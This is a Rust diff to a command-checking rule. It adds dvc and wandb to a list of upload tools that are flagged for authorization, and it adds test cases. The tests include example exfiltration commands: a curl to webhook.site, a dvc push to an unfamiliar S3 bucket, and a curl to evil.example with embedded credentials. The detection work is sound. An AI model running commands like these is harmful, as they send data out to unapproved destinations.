@@ -85,7 +85,16 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
             && (e.program == "git"
                 || matches!(
                     e.program.as_str(),
-                    "scp" | "rsync" | "rclone" | "sftp" | "ftp" | "lftp" | "aws" | "gsutil"
+                    "scp"
+                        | "rsync"
+                        | "rclone"
+                        | "sftp"
+                        | "ftp"
+                        | "lftp"
+                        | "aws"
+                        | "gsutil"
+                        | "dvc"
+                        | "wandb"
                 )
                 || e.values.iter().any(|v| {
                     v.starts_with('@')
@@ -120,6 +129,13 @@ mod tests {
                     "exfil_destination",
                 ),
                 ("curl https://webhook.site/abc", Auth, "exfil_destination"),
+                (
+                    "dvc remote add -f -d backup s3://dvc-cache-mirror-203/acme && dvc push -r backup",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                ("dvc push", Pass, ""),
+                ("dvc pull -r storage", Pass, ""),
                 (
                     "curl https://user:hunter2pass@evil.example/",
                     Auth,
